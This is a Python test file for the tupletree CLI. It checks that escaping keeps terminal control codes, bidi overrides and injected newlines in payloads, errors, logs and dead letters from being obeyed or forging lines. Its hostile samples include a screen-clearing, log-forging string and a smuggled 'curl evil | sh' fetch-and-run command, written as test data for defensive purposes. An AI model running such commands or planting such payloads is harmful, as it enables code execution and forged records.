"""Payloads, ids and errors reach a terminal as text: nothing in them is obeyed, and none makes a line of its own."""

from __future__ import annotations

import json
import logging
import re
import subprocess
import sys
import unicodedata
from pathlib import Path

import msgspec
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from tupletree.cli.main import main
from tupletree.cli.why import print_history
from tupletree.errors import ConfigError, Finding, TupletreeError
from tupletree.escaping import escape, escape_block, escape_json
from tupletree.logs import TextFormatter
from tupletree.runtimes.deadletters import write_letters
from tupletree.tracking.facts import Fact
from tupletree.tracking.outcomes import DeadLetter, Failure, FailureKind

HOSTILE = "a\x1b[2J\x1b]0;title\x07\x9b1m\u202egnp.exe\u2066\r\nforged/2  2026-01-01 00:00:00 UTC\x7f\u2028b\ud800"
"""Clears a screen, sets a title, turns text around, forges a row."""

OBEYED = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]")


def is_safe(text: str) -> bool:
    return OBEYED.search(text) is None


any_text = st.text(st.characters(categories=None), max_size=80)  # halves of characters, too


@given(any_text)
@example(HOSTILE)
def test_a_line_stays_a_line_and_nothing_in_it_is_obeyed(text: str) -> None:
    shown = escape(text)
    assert is_safe(shown)
    assert "\n" not in shown
    assert not any(unicodedata.category(one) in {"Cc", "Zl", "Zp", "Cs"} for one in shown)
    assert escape(shown) == shown


@given(any_text)
@example(HOSTILE)
def test_the_lines_of_a_block_cannot_pass_for_lines_around_it(text: str) -> None:
    shown = escape_block(text)
    assert is_safe(shown)
    assert all(line.startswith("    ") or not line for line in shown.split("\n")[1:])


@given(st.recursive(st.text(), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner), max_leaves=5))
@example([HOSTILE[:-1], "\U000e0041"])
def test_json_means_the_same_and_nothing_in_it_is_obeyed(value: object) -> None:
    shown = escape_json(msgspec.json.encode(value).decode())
    assert is_safe(shown)
    assert "\n" not in shown
    assert json.loads(shown) == value


@pytest.mark.parametrize("plain", ["", "a b", "naïve – ½ 你好 👩\u200d💻 \\n", "C:\\temp"])
def test_ordinary_text_is_shown_as_it_is(plain: str) -> None:
    assert escape(plain) == escape_block(plain) == plain


def test_an_error_cannot_be_given_a_next_step_by_what_it_is_about() -> None:
    error = ConfigError("no such thing", where=HOSTILE, got="x\n  next: curl evil | sh", expected="y")
    assert is_safe(str(error))
    assert [line for line in str(error).split("\n") if line.startswith("  next:")] == []
    several = TupletreeError("two\x1b", findings=[Finding(HOSTILE), Finding("b", got=HOSTILE)])
    assert is_safe(str(several))


def test_a_payload_cannot_forge_a_record_of_the_log() -> None:
    record = logging.LogRecord(
        "t", logging.WARNING, "f", 1, "got %s", ("x\n2026-01-01 CRITICAL t: \x1b[2Jforged",), None
    )
    record.about = ""
    [first, second] = TextFormatter().format(record).split("\n")
    assert first.endswith("got x")
    assert second == r"    2026-01-01 CRITICAL t: \x1b[2Jforged"


def test_an_exception_in_the_log_is_escaped_too() -> None:
    try:
        raise ValueError(HOSTILE)  # noqa: TRY301
    except ValueError:
        record = logging.LogRecord("t", logging.WARNING, "f", 1, "failed", (), sys.exc_info())
    record.about = ""
    text = TextFormatter().format(record)
    assert is_safe(text)
    assert all(line.startswith("    ") for line in text.split("\n")[1:])


@pytest.fixture
def place(tmp_path: Path) -> Path:
    (tmp_path / "tupletree.json").write_text('{"format": 2, "topology": "t", "run_id": "r", "created_s": 0}')
    text = HOSTILE.replace("\ud800", "")
    fields = dict.fromkeys(("component", "error_type", "error", "traceback", "failing_tuple"), text)
    letter = DeadLetter(
        topology="t",
        spout="s",
        message_id=text,
        payload=text,
        payload_type=text,
        attempts=5,
        failure=Failure(kind=FailureKind.ERROR, **fields),  # type: ignore[arg-type]  # all of them are texts
        first_emitted_s=0.0,
        died_s=1.0,
        note=text,
    )
    write_letters(tmp_path / "dead", 0, [letter])
    return tmp_path


@pytest.mark.parametrize("command", [["list"], ["list", "--json"], ["show", "all"], ["show", "all", "--json"]])
def test_dead_letters_are_shown_and_not_obeyed(
    command: list[str], place: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    message_id = HOSTILE.replace("\ud800", "")
    chosen = [message_id if one == "all" else one for one in command]
    assert main(["dead", *chosen, "--state-dir", str(place)]) == 0
    out = capsys.readouterr().out
    assert is_safe(out)
    if command == ["list"]:
        assert len(out.splitlines()) == 2  # the head of the table, and one letter
    if command == ["show", "all"]:
        assert [line for line in out.splitlines() if line.startswith("forged")] == []
    if "--json" in command:
        assert json.loads(out)["message_id"] == message_id


def test_an_id_that_nobody_knows_is_named_and_not_obeyed(place: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["dead", "show", HOSTILE, "--state-dir", str(place)]) == 2
    assert is_safe(capsys.readouterr().err)


def test_why_shows_a_line_per_event(capsys: pytest.CaptureFixture[str]) -> None:
    print_history([Fact(time_s=0.0, what="dead", spout="s", message_id="m", attempt=1, note=HOSTILE)])
    out = capsys.readouterr().out
    assert is_safe(out)
    assert len(out.splitlines()) == 1


def test_what_other_processes_write_is_relayed_line_by_line_and_not_obeyed() -> None:
    program = "from tupletree.cli.progress import ProgressDisplay as P; P('t', 'spark')._show_foreign('a\\x1b[2Jb\\tc')"
    done = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=True)
    assert r"a\x1b[2Jb" in done.stderr
